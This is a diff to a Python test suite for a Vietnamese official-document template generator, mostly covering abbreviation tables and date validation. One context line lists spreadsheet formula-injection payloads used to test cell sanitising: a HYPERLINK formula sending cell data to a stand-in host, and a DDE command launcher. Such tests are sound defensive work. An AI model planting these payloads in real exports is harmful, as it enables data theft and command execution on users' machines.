@@ -27,7 +27,7 @@ from doctpl.render import render, render_data
 from doctpl.store import numbering, records
 from doctpl.store.models import PhienBan, SoDi, VanBan
 from doctpl.xlsx import safe_cell
-from tests.conftest import csrf_token, docx_text, example, signed_in
+from tests.conftest import csrf_token, docx_text, example, signed_in, state_example
 from tests.stores import store  # noqa: F401  (fixture)
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
@@ -44,8 +44,8 @@ def _refused(call, field: str) -> str:
 
 
 def _plan(so: int | None = None, year: int = 2021) -> dict:
-    """Return the 2021 plan with number `so`, moved with its dates into `year`."""
-    data = example("ke_hoach")
+    """Return the 2021 plan in state form (one NĐ 30 series a year) with number `so`, moved into `year`."""
+    data = state_example("ke_hoach")
     data["so"], data["nam"] = so, year
     for name in ("ngay", "han_bao_cao_6_thang", "han_bao_cao_nam"):
         data[name] = data[name] and f"{year}{data[name][4:]}"
@@ -66,7 +66,7 @@ def test_a_blank_optional_bonus_score_counts_as_zero():
 
 @pytest.mark.parametrize("kind_id", ["ke_hoach", "giao_uoc", "dang_ky", "bao_cao_so_ket", "bao_cao_tong_ket"])
 def test_a_document_before_the_decree_takes_the_abbreviations_of_thong_tu_01_2011(kind_id):
-    data = example(kind_id)
+    data = state_example(kind_id)
     data["nam"], data["ngay"] = 2019, "2019-06-10"
     for name in ("han_bao_cao_6_thang", "han_bao_cao_nam"):
         if name in data:
@@ -76,13 +76,14 @@ def test_a_document_before_the_decree_takes_the_abbreviations_of_thong_tu_01_201
     assert re.search(rf"Số: (\d{{2,}}|\s{{5}})/{abbreviation}-", text), text[:400]
 
 
-@pytest.mark.parametrize(("year", "ngay", "field"), [(2010, None, "nam"), (1990, None, "nam"), (1945, None, "nam"),
-                                                     (2012, "2010-05-01", "ngay"), (2021, "1990-01-01", "ngay")])
-def test_a_year_or_a_date_before_any_abbreviation_table_is_refused_by_name(year, ngay, field):
-    data = example("giao_uoc")
+@pytest.mark.parametrize(("the_thuc", "since"), [("nha_nuoc", "06/5/2005"), ("dang", "28/5/2004")])
+@pytest.mark.parametrize(("year", "ngay", "field"), [(2004, None, "nam"), (1990, None, "nam"), (1945, None, "nam"),
+                                                     (2012, "2004-05-01", "ngay"), (2021, "1990-01-01", "ngay")])
+def test_a_year_or_a_date_before_any_abbreviation_table_is_refused_by_name(year, ngay, field, the_thuc, since):
+    data = example("giao_uoc") | {"the_thuc": the_thuc}  # TTLT 55/2005 and HD 11-HD/VPTW are the first tables
     data["nam"], data["ngay"] = year, ngay
     message = _refused(lambda: get_kind("giao_uoc").validate(data), field)
-    assert "chưa có chữ viết tắt tên loại «Giao ước thi đua»" in message and "05/3/2011" in message
+    assert "chưa có chữ viết tắt tên loại «Giao ước thi đua»" in message and since in message
 
 
 def test_the_register_refuses_a_year_before_any_abbreviation_table(store):  # noqa: F811
@@ -97,8 +98,10 @@ def test_the_abbreviation_tables_before_and_after_nd_30():
     assert facts.abbreviation("Giấy ủy quyền", dt.date(2015, 1, 1)) == "UQ"
     assert facts.abbreviation("Giấy ủy quyền", dt.date(2021, 1, 1)) == "GUQ"
     assert facts.abbreviation("Giao ước thi đua", dt.date(2015, 1, 1)) == "GƯTĐ"
+    assert facts.abbreviation("Kế hoạch", dt.date(2011, 3, 4)) == "KH"  # TTLT 55/2005 until Thông tư 01/2011
+    assert facts.abbreviation("Giấy giới thiệu", dt.date(2011, 3, 4)) == "GT"
     with pytest.raises(KeyError):
-        facts.abbreviation("Kế hoạch", dt.date(2011, 3, 4))
+        facts.abbreviation("Kế hoạch", dt.date(2005, 5, 5))
     assert "GUQ" in facts.abbreviations() and "UQ" not in facts.abbreviations()  # the NĐ 30 checker's list
     assert "UQ" in facts.abbreviations(dt.date(2015, 1, 1))
 
@@ -280,7 +283,7 @@ def test_hidden_fields_with_superscript_digits_do_not_break_the_form(web):
 
 def test_nul_characters_and_text_at_its_limit_are_saved(web):
     client = signed_in(web)
-    data = example("giao_uoc")
+    data = state_example("giao_uoc")
     data["co_quan"].update(ten="Đ" * 119 + "\x00", chu_quan="C\x00" * 60, ky_hieu="ﬃ" * 10)
     data["trich_yeu"], data["so"] = "t" * 250, None
     data["don_vi_ky"] = [copy.deepcopy(data["don_vi_ky"][1]) | {"ten": f"Đơn vị {n} " + "đ" * 140,
@@ -318,7 +321,7 @@ def test_lone_surrogates_in_json_render_and_validate(client):
 
 @pytest.mark.parametrize(("change", "field"), [
     ({"nam": 99999999}, "nam"), ({"nam": "²⁰²¹"}, "nam"), ({"so": "¹"}, "so"), ({"ngay": "31/12/99999"}, "ngay"),
-    ({"ngay": "²/1/2021"}, "ngay"), ({"nam": 2010}, "nam")])
+    ({"ngay": "²/1/2021"}, "ngay"), ({"nam": 1999}, "nam")])  # 1999: before every abbreviation table
 def test_huge_years_and_superscript_digits_answer_422_with_the_field(client, change, field):
     for path in ("/api/v1/render/dang_ky", "/api/v1/validate/dang_ky"):
         response = client.post(path, json=example("dang_ky") | change)
